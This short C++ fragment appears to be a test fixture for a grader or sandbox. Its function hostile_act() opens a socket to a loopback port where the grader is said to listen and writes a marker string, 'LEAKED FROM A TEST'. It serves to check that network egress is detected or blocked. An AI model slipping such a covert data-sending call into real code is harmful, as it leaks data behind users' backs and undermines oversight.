// Tries to send data to a TCP port on the host (127.0.0.1:47613, where the grader test
// listens); then works correctly.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

void hostile_act() {
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return;
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(47613);
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (::connect(fd, reinterpret_cast<sockaddr*>(&address), sizeof address) == 0) {
    const char leak[] = "LEAKED FROM A TEST";
    (void)!::write(fd, leak, sizeof leak);
  }
  ::close(fd);
}
